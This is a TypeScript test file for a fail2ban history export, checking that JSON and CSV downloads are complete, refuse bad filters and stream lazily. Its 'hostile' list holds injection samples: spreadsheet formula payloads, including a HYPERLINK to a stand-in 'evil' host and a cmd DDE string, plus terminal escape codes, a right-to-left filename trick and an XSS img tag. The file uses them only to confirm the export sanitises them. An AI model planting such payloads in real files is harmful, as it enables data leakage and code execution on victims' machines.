/** The history as a file: complete, harmless to open, as slow as its reader, and gone when its reader goes. */
import { get } from 'node:http';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { until } from '../../../test/bangui.ts';
import { temporaryDatabase, type TemporaryDatabase } from '../../../test/database.ts';
import { dialectOfRun, fillHistory, madeEvents } from '../../../test/history-data.ts';
import { startHistoryServer, type HistoryServer } from '../../../test/history-server.ts';
import { historyEvent, readHistory, type HistoryEvent } from './contract.ts';
import { chunks } from './export.ts';
import { forms } from './export-rows.ts';
import type { NewBan } from './new-event.ts';
import { wantedOf } from './read-filters.ts';
import { planOf } from './read-plan.ts';

const start = Date.UTC(2026, 0, 1);
const end = Date.UTC(2026, 5, 1);
const now = Date.UTC(2026, 10, 24, 12);

const hostile = [
  '=HYPERLINK("http://evil/?"&A1,"click")',
  '+1+cmd|calc!A0',
  '-2+3',
  '@SUM(1)',
  '\tx=1',
  '\r=1',
  '\u001b[2J\u001b[31mred\u0007',
  '\u202egnp.exe',
  'two "quotes", a comma\nand a line',
  '<img src=x onerror=alert(1)>',
  "{'users': ['root']}",
  'not UTF-8: \ufffd\ufffd',
  `long ${'y'.repeat(100_000)}`,
];
const bans = hostile.map((line, n): NewBan => ({
  action: 'ban',
  jail: 'hostile',
  ip: `198.51.100.${n}`,
  at: end + n * 1000,
  origin: 'manual',
  actor: '=actor',
  reason: line.slice(0, 50),
  fail2banAt: null,
  seconds: -1,
  count: 1,
  failures: 3,
  lines: [line, line],
}));

let database: TemporaryDatabase;
let server: HistoryServer;
const failures: string[] = [];

beforeAll(async () => {
  database = await temporaryDatabase();
  await fillHistory(database, [...madeEvents({ count: 3_000, from: start, to: end }), ...bans]);
  server = await startHistoryServer({
    database,
    now: () => now,
    log: { debug() {}, info() {}, warn() {}, error: (event) => void failures.push(event) },
  });
});
afterAll(async () => {
  await server.close();
  await database.close();
});

const list = async (query = ''): Promise<HistoryEvent[]> => {
  const items: HistoryEvent[] = [];
  for (let cursor: string | null = ''; cursor !== null;) {
    const path = `/api/v1/history?page_size=500${query}${cursor && `&cursor=${cursor}`}`;
    const page = readHistory.output.parse((await server.get(path)).body);
    items.push(...page.items);
    cursor = page.next_cursor;
  }
  return items;
};

/** As RFC 4180 has it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, after] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (after === '\r\n') rows.push([]);
    if (after === '') break;
  }
  return rows.slice(0, -1);
}

test('JSON holds every event of the list, as the list shows it', async () => {
  const answer = await server.get('/api/v1/history/export?format=json&jail=sshd');
  expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8');
  expect(answer.headers.get('content-disposition')).toBe(
    'attachment; filename="bangui-history-2026-11-24.json"',
  );
  const events = z.array(historyEvent).parse(answer.body);
  expect(events.length).toBeGreaterThan(1_000);
  expect(events).toEqual(await list('&jail=sshd'));
});

test('CSV holds the same, a row each', async () => {
  const answer = await server.get('/api/v1/history/export?jail=web&action=ban');
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(answer.headers.get('cache-control')).toBe('no-store');
  const [head = [], ...rows] = readCsv(String(answer.body));
  const events = await list('&jail=web&action=ban');
  expect(rows).toHaveLength(events.length);
  for (const [n, row] of rows.entries()) {
    const event = new Map(Object.entries(events[n] ?? {}));
    const cells = Object.fromEntries(row.map((value, column) => [head[column], value]));
    expect(Object.keys(cells).toSorted()).toEqual([...event.keys()].toSorted());
    for (const [name, value] of event) {
      const text = Array.isArray(value) ? value.join('\n') : String(value ?? '');
      expect(cells[name]).toBe(typeof value === 'string' && /^[=+\-@]/.test(text) ? `'${text}` : text);
    }
  }
});

test('no cell of a hostile line is a formula, moves the cursor of a terminal, or breaks its row', async () => {
  const text = String((await server.get('/api/v1/history/export?jail=hostile')).body);
  expect(text.replaceAll(/[\r\n]/g, '')).not.toMatch(/[\p{Cc}\u202a-\u202e]/u);
  const [head = [], ...rows] = readCsv(text);
  expect(rows).toHaveLength(hostile.length);
  const numbers = new Set(['duration_seconds']);
  for (const row of rows) {
    expect(row).toHaveLength(head.length);
    for (const [column, cell] of row.entries()) {
      if (!numbers.has(head[column] ?? '')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  }
  expect(text).toContain('\\x1b[2J\\x1b[31mred\\x07');
  expect(text).toContain('\\u202egnp.exe');
  expect(text.length).toBeLessThan(100_000);
});

test('JSON is the same text to who reads it, and as harmless to look at', async () => {
  const answer = await fetch(`${server.url}/api/v1/history/export?format=json&jail=hostile`, {
    headers: { cookie: server.cookie },
  });
  const text = await answer.text();
  expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u202a-\u202e]/u);
  const lines = z
    .array(historyEvent)
    .parse(JSON.parse(text))
    .map(({ matches }) => matches[0]);
  expect(lines.toReversed().slice(0, -1)).toEqual(hostile.slice(0, -1));
});

test('nothing found is a file without events', async () => {
  expect((await server.get('/api/v1/history/export?format=json&jail=none')).body).toEqual([]);
  expect(readCsv(String((await server.get('/api/v1/history/export?jail=none')).body))).toHaveLength(1);
});

test('a wrong filter is refused before anything is sent, and so is a caller without session', async () => {
  expect((await server.get('/api/v1/history/export?ip=nothing')).status).toBe(422);
  expect((await server.get('/api/v1/history/export?format=xml')).status).toBe(422);
  expect((await fetch(`${server.url}/api/v1/history/export`)).status).toBe(401);
  const head = await fetch(`${server.url}/api/v1/history/export`, {
    method: 'HEAD',
    headers: { cookie: server.cookie },
  });
  expect([head.status, head.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
});

test('pages are read only as the reader takes them', async () => {
  let statements = 0;
  const counting = database.db.withPlugin({
    transformQuery: ({ node }) => {
      statements += 1;
      return node;
    },
    transformResult: async ({ result }) => result,
  });
  const deps = { db: counting, dialect: dialectOfRun(), hostId: 'local' };
  const wanted = wantedOf({ origin: 'all', action: 'all' });
  const text = chunks(deps, { plan: await planOf(deps, wanted), wanted, form: forms.csv });
  await text.next();
  await text.next();
  // the page after is being read; the rest waits
  await new Promise((resolve) => setTimeout(resolve, 50));
  expect(statements).toBeLessThanOrEqual(8);
  await text.return(undefined);
});

test('a reader that leaves ends it, and that is no failure', async () => {
  const options = { headers: { cookie: server.cookie } };
  const request = get(`${server.url}/api/v1/history/export`, options, (response) =>
    response.once('data', () => request.destroy()),
  );
  await new Promise((resolve) => request.once('close', resolve));
  await until(
    'the server answers',
    async () => (await server.get('/api/v1/history?page_size=1')).status === 200,
  );
  expect(failures).toEqual([]);
});
